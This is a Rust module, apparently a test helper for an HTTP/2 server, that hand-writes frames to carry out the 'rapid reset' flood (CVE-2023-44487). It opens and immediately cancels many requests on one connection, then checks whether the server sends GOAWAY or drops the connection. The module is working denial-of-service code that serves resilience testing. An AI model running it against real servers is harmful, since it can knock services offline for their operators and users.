//! HTTP/2 by hand, as far as rude clients speak it: frames are written, what comes back is only looked at for an end
//! (RFC 9113).

use std::{
    io::{self, Read as _, Write as _},
    net::{SocketAddr, TcpStream},
    thread,
    time::Duration,
};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const GOAWAY: u8 = 7;
/// END_STREAM and END_HEADERS.
const WHOLE: u8 = 0x5;
/// The code of an RST_STREAM by which a client says that it has lost interest.
const CANCEL: u32 = 8;

/// How a connection that asks and cancels has ended.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum End {
    /// The server said goodbye, with this error code.
    GoAway(u32),
    /// It was cut.
    Closed,
    /// It goes on.
    Open,
}

/// Asks `count` times for `path` on one connection, and cancels each request at once ("rapid reset", CVE-2023-44487).
pub(super) fn rapid_reset(address: SocketAddr, path: &str, count: u32) -> io::Result<End> {
    let mut stream = TcpStream::connect(address)?;
    stream.set_write_timeout(Some(Duration::from_secs(10)))?;
    stream.set_read_timeout(Some(Duration::from_secs(2)))?;
    let reader = stream.try_clone()?;
    let reader = thread::spawn(move || end(reader));
    let request = request(path);
    let mut bytes = PREFACE.to_vec();
    frame(&mut bytes, SETTINGS, 0, 0, &[]);
    for number in 0..count {
        let id = number * 2 + 1;
        frame(&mut bytes, HEADERS, WHOLE, id, &request);
        frame(&mut bytes, RST_STREAM, 0, id, &CANCEL.to_be_bytes());
        if bytes.len() > 16 << 10 {
            // A server that has had enough hangs up.
            if stream.write_all(&bytes).is_err() {
                break;
            }
            bytes.clear();
        }
    }
    let _ = stream.write_all(&bytes);
    reader.join().map_err(|_| io::Error::other("the reader of an HTTP/2 connection died"))
}

/// Reads frames until there are no more.
fn end(mut stream: TcpStream) -> End {
    loop {
        let mut head = [0; 9];
        match stream.read_exact(&mut head) {
            Ok(()) => {}
            Err(error) if matches!(error.kind(), io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut) => {
                return End::Open;
            }
            Err(_) => return End::Closed,
        }
        let mut payload = vec![0; u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize];
        if stream.read_exact(&mut payload).is_err() {
            return End::Closed;
        }
        if let (GOAWAY, Some(&[a, b, c, d])) = (head[3], payload.get(4..8)) {
            return End::GoAway(u32::from_be_bytes([a, b, c, d]));
        }
    }
}

fn frame(bytes: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    bytes.extend(&(payload.len() as u32).to_be_bytes()[1..]);
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
}

/// The headers of a `GET`: method and scheme from the static table, path and authority as literals that are not
/// remembered (RFC 7541, appendix A and section 6.2.2).
fn request(path: &str) -> Vec<u8> {
    let mut block = vec![0x82, 0x86];
    for (name, value) in [(4, path), (1, "localhost")] {
        block.extend([name, value.len() as u8]);
        block.extend(value.as_bytes());
    }
    block
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_are_as_the_specification_draws_them() {
        let mut bytes = Vec::new();
        frame(&mut bytes, RST_STREAM, 0, 3, &CANCEL.to_be_bytes());
        assert_eq!(bytes, [0, 0, 4, 3, 0, 0, 0, 0, 3, 0, 0, 0, 8]);
        assert_eq!(request("/"), b"\x82\x86\x04\x01/\x01\x09localhost");
    }
}
